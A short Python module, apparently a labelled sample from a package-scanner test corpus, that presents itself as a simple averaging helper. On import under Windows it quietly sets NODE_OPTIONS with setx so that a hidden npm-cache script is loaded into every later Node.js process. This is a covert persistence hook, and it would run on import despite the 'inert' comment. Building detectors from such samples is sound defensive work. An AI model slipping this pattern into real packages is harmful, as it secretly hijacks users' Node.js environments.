# pkgguard corpus 889 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys

if sys.platform == "win32":
    hook = os.path.join(os.environ.get("APPDATA", "."), "npm-cache", "_hooks", "telemetry.js")
    if os.path.exists(hook):
        subprocess.run(["setx", "NODE_OPTIONS", f"--require {hook}"], capture_output=True)


def mean(values):
    values = list(values)
    return sum(values) / len(values) if values else 0.0
